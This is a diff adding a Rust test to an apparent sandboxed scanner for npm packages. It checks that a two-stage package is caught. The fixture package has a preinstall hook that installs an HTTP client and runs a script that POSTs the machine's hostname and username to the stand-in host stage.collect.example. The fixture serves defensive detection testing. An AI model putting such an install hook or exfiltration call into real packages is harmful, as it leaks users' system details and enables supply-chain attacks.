@@ -298,3 +298,25 @@ setTimeout(() => fs.unlinkSync(loader), 100);
         );
     }
 }
+
+/// A second stage that installs its own HTTP client first: the sandbox's npm makes
+/// a stand-in for it (no registry is reachable), and what it posts is read.
+#[test]
+fn a_stage_that_installs_its_client_first_is_followed() {
+    let report = sandboxed(
+        PackageBuilder::new("two-stage-shape", "1.0.0")
+            .script("preinstall", "npm install sync-request && node main.js")
+            .file(
+                "main.js",
+                r#"const request = require("sync-request"), os = require("os");
+request("POST", "http://stage.collect.example/in", { json: { host: os.hostname(), user: os.userInfo().username } });
+"#,
+            ),
+    );
+    assert!(
+        report.findings.iter().any(|finding| finding.rule.as_deref()
+            == Some("runtime-sent-canary")
+            && finding.message.contains("stage.collect.example")),
+        "{report:#?}"
+    );
+}
